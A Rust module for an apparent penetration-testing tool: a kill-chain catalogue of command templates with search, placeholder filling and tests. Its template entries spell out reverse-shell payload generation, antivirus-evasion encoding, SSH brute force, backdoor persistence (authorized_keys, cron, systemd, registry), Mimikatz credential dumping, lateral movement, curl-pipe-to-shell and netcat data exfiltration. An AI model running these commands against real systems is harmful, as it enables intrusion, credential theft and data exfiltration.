use std::collections::HashMap;
use std::sync::OnceLock;
use regex::Regex;
use serde::{Deserialize, Serialize};

use super::phase::Phase;

/// A pre-authored command pattern with `{placeholder}` tokens.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TemplateEntry {
    pub name: String,
    pub phase: Phase,
    pub pattern: String,
    pub description: String,
    pub example: String,
}

/// A rendered template: the command text plus any tokens nothing could fill.
#[derive(Debug, Clone, PartialEq)]
pub struct RenderedTemplate {
    pub command: String,
    pub unresolved: Vec<String>,
}

/// Static, phase-partitioned library of command patterns.
///
/// Built once and never mutated afterwards. Registration order is the order
/// every lookup returns results in.
#[derive(Debug, Clone)]
pub struct TemplateCatalog {
    entries: Vec<TemplateEntry>,
}

// Words that carry no signal when matching a request against templates
const FILLER_WORDS: &[&str] = &[
    "the", "and", "for", "with", "run", "use", "using", "please", "can", "you",
    "me", "some", "all", "against", "target", "show", "how", "what", "this",
    "that", "from", "into", "want", "need", "let", "help", "give", "would",
];

impl TemplateCatalog {
    pub fn new() -> Self {
        Self { entries: Vec::new() }
    }

    /// The built-in kill-chain library.
    pub fn builtin() -> Self {
        let mut catalog = Self::new();
        catalog.register_default_templates();
        catalog
    }

    fn register_default_templates(&mut self) {
        use Phase::*;

        // Reconnaissance
        self.register(Reconnaissance, "port_scan_basic", "nmap -sS -sV {target}",
            "Basic TCP SYN scan with service detection",
            "nmap -sS -sV 192.168.1.100");
        self.register(Reconnaissance, "port_scan_full", "nmap -sS -sV -O -A -p- {target}",
            "Full port scan with OS detection and scripts",
            "nmap -sS -sV -O -A -p- 192.168.1.100");
        self.register(Reconnaissance, "port_scan_udp", "nmap -sU --top-ports 1000 {target}",
            "UDP scan of top 1000 ports",
            "nmap -sU --top-ports 1000 192.168.1.100");
        self.register(Reconnaissance, "subdomain_enum", "sublist3r -d {domain}",
            "Enumerate subdomains using Sublist3r",
            "sublist3r -d example.com");
        self.register(Reconnaissance, "dns_enum", "dnsrecon -d {domain}",
            "DNS reconnaissance and enumeration",
            "dnsrecon -d example.com");
        self.register(Reconnaissance, "whois_lookup", "whois {domain}",
            "WHOIS domain information lookup",
            "whois example.com");
        self.register(Reconnaissance, "web_tech_scan", "whatweb {url}",
            "Web technology fingerprinting",
            "whatweb http://example.com");

        // Weaponization
        self.register(Weaponization, "msfvenom_reverse_shell",
            "msfvenom -p {payload} LHOST={lhost} LPORT={lport} -f {format}",
            "Generate reverse shell payload with msfvenom",
            "msfvenom -p linux/x64/shell_reverse_tcp LHOST=192.168.1.10 LPORT=4444 -f elf");
        self.register(Weaponization, "custom_wordlist", "cewl -d 2 -m 5 -w {output} {url}",
            "Generate custom wordlist from website",
            "cewl -d 2 -m 5 -w wordlist.txt http://example.com");
        self.register(Weaponization, "hash_crack_prep", "john --wordlist={wordlist} {hashfile}",
            "Prepare hash cracking with John the Ripper",
            "john --wordlist=rockyou.txt hashes.txt");
        self.register(Weaponization, "payload_encoder",
            "msfvenom -p {payload} -e {encoder} -i {iterations} -f {format}",
            "Encode payload to evade detection",
            "msfvenom -p windows/meterpreter/reverse_tcp -e x86/shikata_ga_nai -i 3 -f exe");

        // Delivery
        self.register(Delivery, "http_server", "python3 -m http.server {port}",
            "Start simple HTTP server for payload delivery",
            "python3 -m http.server 8080");
        self.register(Delivery, "smb_server", "impacket-smbserver share . -smb2support",
            "Start SMB server for file sharing",
            "impacket-smbserver share . -smb2support");
        self.register(Delivery, "netcat_listener", "nc -lvnp {port}",
            "Start netcat listener for reverse shells",
            "nc -lvnp 4444");
        self.register(Delivery, "metasploit_handler",
            "msfconsole -x 'use exploit/multi/handler; set payload {payload}; set lhost {lhost}; set lport {lport}; run'",
            "Start Metasploit handler for payload",
            "msfconsole -x 'use exploit/multi/handler; set payload linux/x64/shell_reverse_tcp; set lhost 192.168.1.10; set lport 4444; run'");

        // Exploitation
        self.register(Exploitation, "web_vuln_scan", "nikto -h {target}",
            "Web vulnerability scanner",
            "nikto -h http://192.168.1.100");
        self.register(Exploitation, "dir_brute", "gobuster dir -u {url} -w {wordlist}",
            "Directory brute forcing",
            "gobuster dir -u http://192.168.1.100 -w /usr/share/wordlists/dirb/common.txt");
        self.register(Exploitation, "sql_injection", "sqlmap -u '{url}' --batch --dbs",
            "SQL injection testing with sqlmap",
            "sqlmap -u 'http://example.com/page.php?id=1' --batch --dbs");
        self.register(Exploitation, "xss_scan", "xsser --url '{url}' --auto",
            "XSS vulnerability scanner",
            "xsser --url 'http://example.com/search.php?q=test' --auto");
        self.register(Exploitation, "smb_enum", "enum4linux {target}",
            "SMB enumeration tool",
            "enum4linux 192.168.1.100");
        self.register(Exploitation, "ssh_brute", "hydra -L {userlist} -P {passlist} {target} ssh",
            "SSH brute force attack",
            "hydra -L users.txt -P passwords.txt 192.168.1.100 ssh");
        self.register(Exploitation, "exploit_search", "searchsploit {service} {version}",
            "Search for exploits in exploit database",
            "searchsploit apache 2.4.41");

        // Installation
        self.register(Installation, "ssh_persistence",
            "ssh-keygen -t rsa -f {keyfile} && cat {keyfile}.pub >> ~/.ssh/authorized_keys",
            "Create SSH key for persistence",
            "ssh-keygen -t rsa -f backdoor_key && cat backdoor_key.pub >> ~/.ssh/authorized_keys");
        self.register(Installation, "cron_persistence", "echo '{schedule} {command}' | crontab -",
            "Add cron job for persistence",
            "echo '*/5 * * * * /tmp/backdoor.sh' | crontab -");
        self.register(Installation, "service_persistence",
            "systemctl enable {service} && systemctl start {service}",
            "Enable service for persistence",
            "systemctl enable backdoor.service && systemctl start backdoor.service");
        self.register(Installation, "registry_persistence",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {name} /t REG_SZ /d {path}",
            "Windows registry persistence",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Backdoor /t REG_SZ /d C:\\temp\\backdoor.exe");

        // Command & control
        self.register(CommandControl, "meterpreter_session",
            "msfconsole -x 'use exploit/multi/handler; set payload {payload}; set lhost {lhost}; set lport {lport}; run'",
            "Start Meterpreter session handler",
            "msfconsole -x 'use exploit/multi/handler; set payload windows/meterpreter/reverse_tcp; set lhost 192.168.1.10; set lport 4444; run'");
        self.register(CommandControl, "empire_listener", "powershell-empire --listener {name}",
            "Start PowerShell Empire listener",
            "powershell-empire --listener http");
        self.register(CommandControl, "cobalt_strike", "./teamserver {ip} {password}",
            "Start Cobalt Strike team server",
            "./teamserver 192.168.1.10 password123");
        self.register(CommandControl, "tunnel_setup", "ssh -D {port} -f -C -q -N {user}@{host}",
            "Setup SSH SOCKS tunnel",
            "ssh -D 8080 -f -C -q -N user@192.168.1.100");

        // Actions on objectives
        self.register(ActionsObjectives, "data_exfil",
            "tar -czf - {directory} | openssl enc -aes-256-cbc -k {password} | nc {host} {port}",
            "Encrypted data exfiltration via netcat",
            "tar -czf - /home/user/documents | openssl enc -aes-256-cbc -k password123 | nc 192.168.1.10 9999");
        self.register(ActionsObjectives, "privilege_escalation", "linpeas.sh",
            "Linux privilege escalation enumeration",
            "curl -L https://github.com/carlospolop/PEASS-ng/releases/latest/download/linpeas.sh | sh");
        self.register(ActionsObjectives, "lateral_movement", "psexec.py {domain}/{user}:{password}@{target}",
            "Lateral movement with PsExec",
            "psexec.py DOMAIN/user:password@192.168.1.101");
        self.register(ActionsObjectives, "credential_dump",
            "mimikatz.exe 'privilege::debug' 'sekurlsa::logonpasswords' exit",
            "Dump credentials with Mimikatz",
            "mimikatz.exe 'privilege::debug' 'sekurlsa::logonpasswords' exit");
        self.register(ActionsObjectives, "network_discovery", "nmap -sn {network}",
            "Network discovery ping sweep",
            "nmap -sn 192.168.1.0/24");
    }

    pub fn register(&mut self, phase: Phase, name: &str, pattern: &str, description: &str, example: &str) {
        self.entries.push(TemplateEntry {
            name: name.to_string(),
            phase,
            pattern: pattern.to_string(),
            description: description.to_string(),
            example: example.to_string(),
        });
    }

    pub fn get(&self, name: &str) -> Option<&TemplateEntry> {
        self.entries.iter().find(|entry| entry.name == name)
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// All templates of one phase, in catalog order.
    pub fn templates_for(&self, phase: Phase) -> Vec<&TemplateEntry> {
        self.entries.iter().filter(|entry| entry.phase == phase).collect()
    }

    /// Case-insensitive substring match of `query` against name, description
    /// and pattern. No ranking: results come back in catalog order.
    pub fn search(&self, query: &str, phase: Option<Phase>) -> Vec<&TemplateEntry> {
        let query = query.trim().to_lowercase();
        if query.is_empty() {
            return Vec::new();
        }

        self.entries
            .iter()
            .filter(|entry| phase.map_or(true, |p| entry.phase == p))
            .filter(|entry| entry_text_contains(entry, &query))
            .collect()
    }

    /// Keyword match used when the whole request is not a substring of any
    /// template. Each template scores the number of distinct request keywords
    /// it contains; higher scores first, catalog order breaks ties.
    pub fn match_keywords(&self, request: &str, phase: Option<Phase>, target: Option<&str>) -> Vec<&TemplateEntry> {
        let keywords = request_keywords(request, target);
        if keywords.is_empty() {
            return Vec::new();
        }

        let mut scored: Vec<(usize, usize, &TemplateEntry)> = self.entries
            .iter()
            .enumerate()
            .filter(|(_, entry)| phase.map_or(true, |p| entry.phase == p))
            .filter_map(|(position, entry)| {
                let hits = keywords.iter().filter(|kw| entry_text_contains(entry, kw)).count();
                if hits > 0 {
                    Some((hits, position, entry))
                } else {
                    None
                }
            })
            .collect();

        scored.sort_by(|a, b| b.0.cmp(&a.0).then(a.1.cmp(&b.1)));
        scored.into_iter().map(|(_, _, entry)| entry).collect()
    }
}

impl Default for TemplateCatalog {
    fn default() -> Self {
        Self::builtin()
    }
}

fn entry_text_contains(entry: &TemplateEntry, needle: &str) -> bool {
    entry.name.to_lowercase().contains(needle)
        || entry.description.to_lowercase().contains(needle)
        || entry.pattern.to_lowercase().contains(needle)
}

/// Lowercased request words worth matching on. Hosts, paths and the target
/// itself are dropped, as are short and filler words; a plural `s` is trimmed.
fn request_keywords(request: &str, target: Option<&str>) -> Vec<String> {
    let target = target.map(|t| t.to_lowercase());
    let mut keywords: Vec<String> = Vec::new();

    for raw in request.split_whitespace() {
        let word = raw
            .trim_matches(|c: char| !c.is_alphanumeric())
            .to_lowercase();

        if word.len() < 3 || word.contains('.') || word.contains('/') || word.contains(':') {
            continue;
        }
        if target.as_deref() == Some(word.as_str()) || FILLER_WORDS.contains(&word.as_str()) {
            continue;
        }

        let word = match word.strip_suffix('s') {
            Some(stem) if stem.len() >= 3 && !stem.ends_with('s') => stem.to_string(),
            _ => word,
        };

        if !keywords.contains(&word) {
            keywords.push(word);
        }
    }

    keywords
}

fn placeholder_regex() -> &'static Regex {
    static PLACEHOLDER: OnceLock<Regex> = OnceLock::new();
    PLACEHOLDER.get_or_init(|| Regex::new(r"\{([a-zA-Z_]+)\}").expect("placeholder pattern is valid"))
}

/// Values available for placeholder substitution.
#[derive(Debug, Clone, Default)]
pub struct Placeholders {
    values: HashMap<String, String>,
}

impl Placeholders {
    /// Derive `target`, `domain` and `url` from the assessment target, then
    /// layer configured extras (e.g. `lhost`, `lport`) on top without
    /// overriding the target-derived ones.
    pub fn for_target(target: Option<&str>, extra: &HashMap<String, String>) -> Self {
        let mut values = HashMap::new();

        if let Some(target) = target.map(str::trim).filter(|t| !t.is_empty()) {
            let host = host_of(target);
            let url = if target.contains("://") {
                target.to_string()
            } else {
                format!("http://{}", target)
            };

            values.insert("target".to_string(), target.to_string());
            values.insert("domain".to_string(), host);
            values.insert("url".to_string(), url);
        }

        for (key, value) in extra {
            values.entry(key.clone()).or_insert_with(|| value.clone());
        }

        Self { values }
    }

    pub fn get(&self, key: &str) -> Option<&str> {
        self.values.get(key).map(String::as_str)
    }

    /// Substitute known tokens; unknown ones stay literal and are reported.
    pub fn render(&self, pattern: &str) -> RenderedTemplate {
        let mut unresolved: Vec<String> = Vec::new();

        let command = placeholder_regex()
            .replace_all(pattern, |caps: &regex::Captures| {
                let key = &caps[1];
                match self.values.get(key) {
                    Some(value) => value.clone(),
                    None => {
                        let token = caps[0].to_string();
                        if !unresolved.contains(&token) {
                            unresolved.push(token.clone());
                        }
                        token
                    }
                }
            })
            .into_owned();

        RenderedTemplate { command, unresolved }
    }
}

fn host_of(target: &str) -> String {
    let without_scheme = target
        .split_once("://")
        .map(|(_, rest)| rest)
        .unwrap_or(target);

    without_scheme
        .split(['/', '?', '#'])
        .next()
        .unwrap_or(without_scheme)
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builtin_catalog_covers_every_phase() {
        let catalog = TemplateCatalog::builtin();
        for phase in Phase::ALL {
            assert!(!catalog.templates_for(phase).is_empty(), "no templates for {phase}");
        }
        assert_eq!(catalog.templates_for(Phase::Reconnaissance)[0].name, "port_scan_basic");
    }

    #[test]
    fn search_is_phase_restricted_and_ordered() {
        let catalog = TemplateCatalog::builtin();
        let results = catalog.search("scan", Some(Phase::Reconnaissance));
        let names: Vec<&str> = results.iter().map(|e| e.name.as_str()).collect();

        assert_eq!(names, vec!["port_scan_basic", "port_scan_full", "port_scan_udp", "web_tech_scan"]);
        for entry in &results {
            assert_eq!(entry.phase, Phase::Reconnaissance);
        }
    }

    #[test]
    fn search_is_case_insensitive_and_spans_phases() {
        let catalog = TemplateCatalog::builtin();
        let results = catalog.search("NMAP", None);

        assert!(results.iter().any(|e| e.phase == Phase::Reconnaissance));
        assert!(results.iter().any(|e| e.name == "network_discovery"));
        // catalog order means reconnaissance entries come first
        assert_eq!(results[0].name, "port_scan_basic");
    }

    #[test]
    fn search_matches_description_text() {
        let catalog = TemplateCatalog::builtin();
        let results = catalog.search("john the ripper", None);
        assert_eq!(results.len(), 1);
        assert_eq!(results[0].name, "hash_crack_prep");
    }

    #[test]
    fn empty_query_matches_nothing() {
        let catalog = TemplateCatalog::builtin();
        assert!(catalog.search("   ", None).is_empty());
    }

    #[test]
    fn keyword_match_prefers_more_hits_then_catalog_order() {
        let catalog = TemplateCatalog::builtin();
        let results = catalog.match_keywords("scan ports on example.com", Some(Phase::Reconnaissance), Some("example.com"));
        assert_eq!(results[0].name, "port_scan_basic");
        // web_tech_scan only matches "scan"
        let web_pos = results.iter().position(|e| e.name == "web_tech_scan").unwrap();
        assert!(web_pos > 2);
    }

    #[test]
    fn keyword_match_ignores_target_and_filler() {
        let keywords = request_keywords("Please run the SQL injection test against shop.example.com", None);
        assert_eq!(keywords, vec!["sql", "injection", "test"]);
    }

    #[test]
    fn render_substitutes_target_derived_placeholders() {
        let placeholders = Placeholders::for_target(Some("example.com"), &HashMap::new());
        assert_eq!(placeholders.render("nmap -sS -sV {target}").command, "nmap -sS -sV example.com");
        assert_eq!(placeholders.render("whatweb {url}").command, "whatweb http://example.com");
        assert_eq!(placeholders.render("whois {domain}").command, "whois example.com");
    }

    #[test]
    fn render_keeps_unknown_tokens_literal() {
        let placeholders = Placeholders::for_target(Some("10.0.0.5"), &HashMap::new());
        let rendered = placeholders.render("nc -lvnp {port} && echo {port} {target}");

        assert_eq!(rendered.command, "nc -lvnp {port} && echo {port} 10.0.0.5");
        assert_eq!(rendered.unresolved, vec!["{port}".to_string()]);
    }

    #[test]
    fn render_without_target_leaves_everything() {
        let placeholders = Placeholders::for_target(None, &HashMap::new());
        let rendered = placeholders.render("nmap -sS -sV {target}");
        assert_eq!(rendered.command, "nmap -sS -sV {target}");
        assert_eq!(rendered.unresolved, vec!["{target}".to_string()]);
    }

    #[test]
    fn url_targets_keep_scheme_and_yield_bare_domain() {
        let mut extra = HashMap::new();
        extra.insert("lport".to_string(), "4444".to_string());
        extra.insert("target".to_string(), "ignored".to_string());

        let placeholders = Placeholders::for_target(Some("https://shop.example.com/login"), &extra);
        assert_eq!(placeholders.get("url"), Some("https://shop.example.com/login"));
        assert_eq!(placeholders.get("domain"), Some("shop.example.com"));
        assert_eq!(placeholders.get("target"), Some("https://shop.example.com/login"));
        assert_eq!(placeholders.get("lport"), Some("4444"));
    }
}
